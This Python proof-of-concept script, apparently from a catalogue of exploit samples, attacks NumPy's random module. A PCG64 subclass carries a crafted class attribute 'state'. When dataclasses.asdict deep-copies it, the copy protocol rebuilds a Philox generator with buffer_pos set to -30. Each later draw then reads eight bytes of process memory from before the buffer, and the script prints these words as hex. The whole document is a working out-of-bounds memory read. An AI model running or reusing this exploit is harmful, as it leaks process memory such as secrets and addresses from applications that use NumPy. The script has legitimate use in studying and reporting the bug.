# source: numpy/random/bit_generator.pyx BitGenerator.__reduce__ (reads self.state, rebuilds the generator it names with __bit_generator_ctor, then __setstate__ -> state setter); numpy/random/_philox.pyx Philox.state setter (buffer_pos unchecked); dataclasses._asdict_inner -> copy.deepcopy
# family: copy-protocol state injection into a bit generator's unchecked state setter (BitGenerator subclass with a class attribute named state, deep-copied by dataclasses.asdict)
# goal: a Philox bit generator with buffer_pos = -30, used through np.random.Generator: every draw reads 8 bytes of process memory before its buffer
import dataclasses
import numpy as np


class Seeded(np.random.PCG64):
    state = {"bit_generator": "Phi" + "lox",
             "state": {"counter": np.zeros(4, dtype=np.uint64),
                       "key": np.zeros(2, dtype=np.uint64)},
             "buffer": np.zeros(4, dtype=np.uint64),
             "buffer_pos": -30,
             "has_uint32": 0, "uinteger": 0}


@dataclasses.dataclass
class Holder:
    bits: object


bits = dataclasses.asdict(Holder(Seeded(0)))["bits"]
rng = np.random.Generator(bits)
raw = rng.integers(0, 2 ** 64, size=30, dtype=np.uint64, endpoint=False)
print("64-bit words read before the Philox buffer:")
print(" ".join("%016x" % int(v) for v in raw))
